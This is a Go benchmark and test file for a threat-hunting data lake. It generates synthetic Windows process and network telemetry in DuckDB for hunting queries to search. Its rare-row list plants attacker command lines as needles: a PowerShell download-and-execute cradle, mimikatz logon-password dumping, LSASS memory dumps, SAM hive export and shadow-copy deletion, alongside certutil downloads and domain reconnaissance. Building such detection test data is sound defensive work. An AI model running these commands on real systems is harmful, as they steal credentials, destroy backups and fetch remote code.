package lake

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The rows that hunting is measured on: processes and connections of 2,000
// devices over 30 days, the same for the same number of rows, made by DuckDB
// itself from hashes of the row's number. Devices, users and programs are
// skewed, command lines come from templates of what endpoints run, with numbers,
// paths and keys in them that hardly repeat, and a few rows in a million are
// what hunters look for.

// benchNow is when the queries are asked: behind the last row.
var benchNow = time.Date(2026, 5, 31, 0, 0, 0, 0, time.UTC)

// benchProgram is a program with its share of 1,000 processes.
type benchProgram struct {
	weight                int
	file, folder, company string
	commands              []string // %n a number, %h hex digits, %u a user, %w a host name, %b base64
}

var benchPrograms = []benchProgram{
	{210, "chrome.exe", `C:\Program Files\Google\Chrome\Application\`, "Google LLC", []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-GB --device-scale-factor=1 --num-raster-threads=4 --field-trial-handle=%n,i,%n,%n,262144 --variations-seed-version=%h --mojo-platform-channel-handle=%n /prefetch:1`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB --service-sandbox-type=none --field-trial-handle=%n,i,%n,%n,262144 --mojo-platform-channel-handle=%n /prefetch:8`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument https://%w/articles/%h?id=%n`}},
	{150, "msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\`, "Microsoft Corporation", []string{
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --disable-gpu-compositing --lang=en-US --js-flags=--ms-user-locale --field-trial-handle=%n,i,%n,%n,262144 --variations-seed-version --mojo-platform-channel-handle=%n /prefetch:1`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=asset_store.mojom.AssetStoreService --lang=en-US --service-sandbox-type=asset_store_service /prefetch:%n`}},
	{130, "svchost.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`svchost.exe -k netsvcs -p -s wlidsvc`, `svchost.exe -k LocalService -p -s LicenseManager`, `svchost.exe -k wusvcs -p -s WaaSMedicSvc`}},
	{110, "conhost.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`conhost.exe 0xffffffff -ForceV1`, `\??\C:\WINDOWS\system32\conhost.exe 0x4 --headless --width %n`}},
	{60, "backgroundTaskHost.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`"backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, `"BackgroundTaskHost.exe" -ServerName:App.AppX%h.mca`}},
	{55, "RuntimeBroker.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`RuntimeBroker.exe -Embedding`}},
	{50, "cmd.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{
		`cmd.exe /c "C:\ProgramData\Agent\collect.cmd" %h`, `cmd /c wmic process get brief /format:csv > C:\Users\%u\AppData\Local\Temp\%h.csv`,
		`"C:\Windows\system32\cmd.exe" /d /s /c "npm run build -- --env %h"`, `cmd.exe /c copy \\fs%n\share$\tools\%h.dll C:\Windows\Temp`}},
	{45, "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\`, "Microsoft Corporation", []string{
		`powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\ProgramData\Inventory\Get-Software.ps1" -RunId %h`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -Command "& {Get-Service | Where-Object {$_.Status -eq 'Stopped'} | Export-Csv C:\Temp\services_%n.csv}"`,
		`powershell.exe -ExecutionPolicy AllSigned -NoProfile -Command "Import-Module C:\Program Files\Agent\Modules\Health.psm1; Test-Health -Key %h -Server %w"`,
		`powershell.exe -w hidden -NoProfile -EncodedCommand %b`,
		`powershell -nop -c "Invoke-WebRequest -Uri https://%w/packages/%h.zip -OutFile C:\Temp\%n.zip"`}},
	{40, "node.exe", `C:\Program Files\nodejs\`, "Node.js", []string{`"C:\Program Files\nodejs\node.exe" C:\Users\%u\source\repos\web\node_modules\.bin\vite build --outDir dist_%n`, `node.exe --max-old-space-size=4096 server.js --port %n --token %h`}},
	{30, "git.exe", `C:\Program Files\Git\cmd\`, "The Git Development Community", []string{`git.exe fetch origin refs/heads/feature/%h`, `"C:\Program Files\Git\cmd\git.exe" -c credential.helper= rev-parse --verify %h%h`}},
	{30, "MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\`, "Microsoft Corporation", []string{`"MsMpEng.exe"`}},
	{25, "WmiPrvSE.exe", `C:\Windows\System32\wbem\`, "Microsoft Corporation", []string{`C:\WINDOWS\system32\wbem\wmiprvse.exe -secured -Embedding`}},
	{20, "rundll32.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie %w https://%w/dav/%h`, `rundll32.exe shell32.dll,Control_RunDLL "C:\Windows\System32\main.cpl",@%n`}},
	{15, "OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16\`, "Microsoft Corporation", []string{`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle %n`}},
	{10, "WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16\`, "Microsoft Corporation", []string{`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%u\Downloads\Offer_%n.docx" /o ""`}},
	{10, "schtasks.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`schtasks.exe /Create /F /SC MINUTE /MO 30 /TN "Agent\Update %h" /TR "C:\ProgramData\Agent\up.exe"`}},
	{5, "whoami.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`whoami /all`, `"C:\Windows\system32\whoami.exe" /groups`}},
	{3, "net.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`net user %u /domain`, `net group "Domain Admins" /domain`, `net use \\%w\c$ /user:corp\%u`}},
	{2, "certutil.exe", `C:\Windows\System32\`, "Microsoft Corporation", []string{`certutil.exe -urlcache -split -f http://%w/%h.txt C:\Windows\Temp\%n.exe`, `certutil -hashfile C:\Windows\Temp\%h.msi SHA256`}},
}

// benchRare are the command lines that few of a million rows have.
var benchRare = []string{
	`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://%w/%h')"`,
	`C:\Users\Public\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
	`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %n C:\Windows\Temp\%h.dmp full`,
	`vssadmin.exe delete shadows /all /quiet`,
	`C:\PerfLogs\procdump64.exe -accepteula -ma lsass.exe C:\PerfLogs\%h.dmp`,
	`reg.exe save HKLM\SAM C:\Windows\Temp\%h.sav`,
}

const (
	benchDevices = 2000
	benchUsers   = 3000
	benchDays    = 30
	benchAtOnce  = 500_000 // rows of one INSERT
)

// benchHash is a number below n that the row's number and key decide.
func benchHash(key, n int) string { return fmt.Sprintf("(hash(i * 64 + %d) %% %d)::BIGINT", key, n) }

// benchSkewed is the same with small numbers far more frequent than large ones.
func benchSkewed(key, n int) string {
	return fmt.Sprintf("floor(%d * pow((hash(i * 64 + %d) %% 1000003) / 1000003.0, 2))::BIGINT", n, key)
}

func sqlText(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

func sqlTexts(list []string) string {
	quoted := make([]string, len(list))
	for i, s := range list {
		quoted[i] = sqlText(s)
	}
	return "[" + strings.Join(quoted, ", ") + "]"
}

// benchFill is a template with what stands for its placeholders.
func benchFill(template string, key int) string {
	for _, p := range [][2]string{
		{"%n", benchHash(key, 90000) + "::VARCHAR"},
		{"%h", fmt.Sprintf("substr(md5((i * 64 + %d)::VARCHAR), 1, 16)", key+1)},
		{"%u", "'user' || " + benchHash(key+2, benchUsers)},
		{"%w", "'host' || " + benchHash(key+3, 4000) + " || '.example.net'"},
		{"%b", fmt.Sprintf("'JABjAGwAaQBlAG4AdAAgAD0A' || to_base64(encode(repeat(hash(i * 64 + %d)::VARCHAR, 3)))", key+4)},
	} {
		template = fmt.Sprintf("replace(%s, '%s', %s)", template, p[0], p[1])
	}
	return template
}

// benchLake opens a lake with n rows in each of the two tables. With the
// environment variable TOCSIN_BENCH_DIR it is kept there for the next run, and
// its tables are written as Parquet, which other engines read.
func benchLake(b testing.TB, n int) *Lake {
	b.Helper()
	dir := b.TempDir()
	if kept := os.Getenv("TOCSIN_BENCH_DIR"); kept != "" {
		dir = filepath.Join(kept, fmt.Sprint(n))
		must0(b, os.MkdirAll(dir, 0o755))
	}
	open := func() *Lake {
		l, err := Open(context.Background(), Config{Dir: dir, Threads: benchThreads(b), MemoryLimit: "8GB", Now: func() time.Time { return benchNow }, HuntCPU: 1000 * time.Hour})
		must0(b, err)
		return l
	}
	done := filepath.Join(dir, "generated")
	if _, err := os.Stat(done); err != nil {
		for _, name := range []string{fileName, fileName + ".wal"} {
			os.Remove(filepath.Join(dir, name))
		}
		l := open()
		start := time.Now()
		benchGenerate(b, l, n)
		must0(b, l.Close())
		b.Logf("%d rows in each table in %v", n, time.Since(start).Round(time.Second/10))
		if os.Getenv("TOCSIN_BENCH_DIR") != "" {
			benchExport(b, dir)
		}
		must0(b, os.WriteFile(done, nil, 0o644))
	}
	l := open()
	b.Cleanup(func() { l.Close() })
	return l
}

func benchGenerate(b testing.TB, l *Lake, n int) {
	conn, err := l.db.Conn(context.Background())
	must0(b, err)
	defer conn.Close()
	do := func(query string) {
		b.Helper()
		if err := run(conn, query); err != nil {
			b.Fatalf("%v\n%s", err, query)
		}
	}
	do("CREATE TEMP TABLE programs (slot INTEGER, file VARCHAR, folder VARCHAR, company VARCHAR, commands VARCHAR[])")
	slot := 0
	for _, p := range benchPrograms {
		do(fmt.Sprintf("INSERT INTO programs SELECT range, %s, %s, %s, %s FROM range(%d, %d)", sqlText(p.file), sqlText(p.folder), sqlText(p.company), sqlTexts(p.commands), slot, slot+p.weight))
		slot += p.weight
	}
	if slot != 1000 {
		b.Fatalf("the programs' shares are %d of 1000", slot)
	}
	for from := 0; from < n; from += benchAtOnce {
		do(benchProcesses(from, min(from+benchAtOnce, n), n))
		do(benchConnections(from, min(from+benchAtOnce, n), n))
	}
	do("DROP TABLE programs")
	do("CHECKPOINT lake")
}

// benchTime is when row i of n happened.
func benchTime(n int) string {
	step := int64(benchDays) * 24 * 3600 * 1_000_000 / int64(n)
	return fmt.Sprintf("make_timestamp(%d + i * %d + %s)", benchNow.AddDate(0, 0, -benchDays).UnixMicro(), step, benchHash(1, int(step)))
}

func benchProcesses(from, to, n int) string {
	return fmt.Sprintf(`INSERT INTO DeviceProcessEvents BY NAME
WITH picked AS (
	SELECT i, %s AS moment, %s AS device, %s AS person, %s AS slot, %s AS parent, %s AS rare FROM range(%d, %d) r(i)
), templates AS (
	SELECT picked.*, p.file, p.folder, p.company, q.file AS pfile, q.folder AS pfolder,
		CASE WHEN rare < 40 THEN %s[1 + rare %% %d] ELSE p.commands[1 + %s %% len(p.commands)] END AS template,
		q.commands[1 + %s %% len(q.commands)] AS ptemplate
	FROM picked JOIN programs p ON p.slot = picked.slot JOIN programs q ON q.slot = picked.parent
)
SELECT moment AS Timestamp, sha1(device::VARCHAR) AS DeviceId, 'ws-' || lpad(device::VARCHAR, 4, '0') || '.corp.example.com' AS DeviceName,
	'ProcessCreated' AS ActionType, file AS FileName, folder || file AS FolderPath, sha1(file) AS SHA1, sha256(file) AS SHA256, md5(file) AS MD5,
	20000 + slot * 7919 AS FileSize, company AS ProcessVersionInfoCompanyName, file AS ProcessVersionInfoOriginalFileName,
	%s AS ProcessId, %s AS ProcessCommandLine, (['Medium', 'Medium', 'High', 'System', 'Low'])[1 + %s] AS ProcessIntegrityLevel,
	(['TokenElevationTypeLimited', 'TokenElevationTypeDefault', 'TokenElevationTypeFull'])[1 + %s] AS ProcessTokenElevation,
	moment - INTERVAL 2 MILLISECONDS AS ProcessCreationTime, 'corp' AS AccountDomain, 'user' || person AS AccountName,
	'S-1-5-21-1004336348-1177238915-682003330-' || (1000 + person) AS AccountSid, 'user' || person || '@example.com' AS AccountUpn, 100000 + person * 7 AS LogonId,
	'user' || person AS InitiatingProcessAccountName, pfile AS InitiatingProcessFileName, pfolder || pfile AS InitiatingProcessFolderPath, sha256(pfile) AS InitiatingProcessSHA256,
	%s AS InitiatingProcessId, %s AS InitiatingProcessCommandLine, moment - INTERVAL 1 HOUR AS InitiatingProcessCreationTime,
	i AS ReportId, CASE WHEN i %% 50 = 0 THEN '{"RemoteSession":false,"ProcessTags":["managed","tier' || (i %% 3) || '"],"Score":' || (i %% 100) || '}' END AS AdditionalFields, moment + INTERVAL 5 SECONDS AS _ingested
FROM templates`,
		benchTime(n), benchSkewed(2, benchDevices), benchSkewed(3, benchUsers), benchHash(4, 1000), benchHash(5, 1000), benchHash(6, 1_000_000), from, to,
		sqlTexts(benchRare), len(benchRare), benchHash(7, 1000), benchHash(8, 1000),
		benchHash(9, 30000), benchFill("template", 20), benchHash(10, 5), benchHash(11, 3), benchHash(12, 30000), benchFill("ptemplate", 30))
}

func benchConnections(from, to, n int) string {
	return fmt.Sprintf(`INSERT INTO DeviceNetworkEvents BY NAME
WITH picked AS (
	SELECT i, %s AS moment, %s AS device, %s AS person, %s AS slot, %s AS kind, %s AS remote, %s AS site FROM range(%d, %d) r(i)
), named AS (
	SELECT picked.*, p.file, p.folder, p.commands[1 + %s %% len(p.commands)] AS template,
		CASE WHEN remote %% 3 = 0 THEN '10.' || (remote %% 16) || '.' || (remote // 16 %% 256) || '.' || (1 + remote // 4096 %% 254)
			ELSE (20 + remote %% 180) || '.' || (remote // 180 %% 256) || '.' || (remote // 46080 %% 256) || '.' || (1 + remote * 7 %% 254) END AS ip,
		'host' || site || (['.example.com', '.example.net', '.example.org', '.cdn.example.com'])[1 + site %% 4] AS host
	FROM picked JOIN programs p ON p.slot = picked.slot
)
SELECT moment AS Timestamp, sha1(device::VARCHAR) AS DeviceId, 'ws-' || lpad(device::VARCHAR, 4, '0') || '.corp.example.com' AS DeviceName,
	CASE WHEN kind < 60 THEN 'ConnectionSuccess' WHEN kind < 70 THEN 'ConnectionFailed' WHEN kind < 78 THEN 'InboundConnectionAccepted' WHEN kind < 90 THEN 'DnsConnectionInspected' ELSE 'HttpConnectionInspected' END AS ActionType,
	ip AS RemoteIP, ([443, 443, 443, 443, 80, 80, 53, 445, 3389, 8443])[1 + %s]::INTEGER AS RemotePort,
	CASE WHEN remote %% 3 <> 0 THEN CASE WHEN kind %% 2 = 0 THEN 'https://' || host || '/' || substr(md5((i * 64 + 40)::VARCHAR), 1, 10) || '/index.html' ELSE host END END AS RemoteUrl,
	'10.20.' || (device // 250) || '.' || (device %% 250) AS LocalIP, 49152 + %s AS LocalPort, CASE WHEN kind BETWEEN 78 AND 89 THEN 'Udp' ELSE 'Tcp' END AS Protocol,
	'Private' AS LocalIPType, CASE WHEN remote %% 3 = 0 THEN 'Private' ELSE 'Public' END AS RemoteIPType,
	sha1(file) AS InitiatingProcessSHA1, sha256(file) AS InitiatingProcessSHA256, file AS InitiatingProcessFileName, %s AS InitiatingProcessId, %s AS InitiatingProcessCommandLine,
	folder || file AS InitiatingProcessFolderPath, 'user' || person AS InitiatingProcessAccountName, 'corp' AS InitiatingProcessAccountDomain, i AS ReportId,
	CASE WHEN kind BETWEEN 78 AND 89 THEN '{"direction":"Out","uid":"C' || substr(md5((i * 64 + 41)::VARCHAR), 1, 12) || '","query":"' || host || '","qtype":' || (1 + kind %% 3) || ',"answers":["' || ip || '","' || (30 + site %% 100) || '.7.' || (site %% 256) || '.9","host' || (site // 2) || '.cdn.example.com"],"rejected":false,"rtt":0.0' || kind || '}'
		WHEN kind >= 90 THEN '{"direction":"Out","method":"' || (['GET', 'GET', 'GET', 'POST'])[1 + kind %% 4] || '","host":"' || host || '","uri":"/' || substr(md5((i * 64 + 42)::VARCHAR), 1, 20) || '","status_code":"' || (['200', '200', '304', '404'])[1 + site %% 4] || '","user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","request_body_len":' || (site * 13) || ',"tags":[]}' END AS AdditionalFields,
	moment + INTERVAL 5 SECONDS AS _ingested
FROM named`,
		benchTime(n), benchSkewed(13, benchDevices), benchSkewed(14, benchUsers), benchHash(15, 1000), benchHash(16, 100), benchSkewed(17, 400_000), benchSkewed(18, 5000), from, to,
		benchHash(19, 1000), benchHash(20, 10), benchHash(21, 16000), benchHash(22, 30000), benchFill("template", 50))
}

// benchExport writes the tables as Parquet. The lake's own database may not
// write files, so another one reads its file.
func benchExport(b testing.TB, dir string) {
	db, err := sql.Open("duckdb", "")
	must0(b, err)
	defer db.Close()
	for _, query := range []string{
		"ATTACH " + sqlText(filepath.Join(dir, fileName)) + " AS lake (READ_ONLY)",
		"COPY (SELECT * EXCLUDE (_extra) FROM lake.DeviceProcessEvents) TO " + sqlText(filepath.Join(dir, "DeviceProcessEvents.parquet")),
		"COPY (SELECT * EXCLUDE (_extra) FROM lake.DeviceNetworkEvents) TO " + sqlText(filepath.Join(dir, "DeviceNetworkEvents.parquet")),
	} {
		if _, err := db.Exec(query); err != nil {
			b.Fatalf("%v\n%s", err, query)
		}
	}
}

// TestBenchRows keeps the rows of the benchmark what they are meant to be.
func TestBenchRows(t *testing.T) {
	l := benchLake(t, 20_000)
	var rows, devices, rare, empty int
	var first, last time.Time
	must0(t, l.db.QueryRow(`SELECT count(*), count(DISTINCT DeviceId), count(*) FILTER (WHERE ProcessCommandLine LIKE '%mimikatz%' OR ProcessCommandLine LIKE '%vssadmin%'),
		count(*) FILTER (WHERE coalesce(ProcessCommandLine, '') = '' OR regexp_matches(ProcessCommandLine, '%[nhuwb]')), min(Timestamp), max(Timestamp) FROM DeviceProcessEvents`).Scan(&rows, &devices, &rare, &empty, &first, &last))
	if rows != 20_000 || devices < 1000 || devices > benchDevices || empty != 0 || first.Before(benchNow.AddDate(0, 0, -benchDays)) || !last.Before(benchNow) {
		t.Errorf("%d rows of %d devices, %d without a whole command line, from %v to %v", rows, devices, empty, first, last)
	}
	var bad, json int
	must0(t, l.db.QueryRow(`SELECT count(*) FILTER (WHERE NOT json_valid(AdditionalFields)), count(AdditionalFields) FROM DeviceNetworkEvents`).Scan(&bad, &json))
	if bad != 0 || json < 2000 {
		t.Errorf("%d rows with JSON, %d of it not valid", json, bad)
	}
}
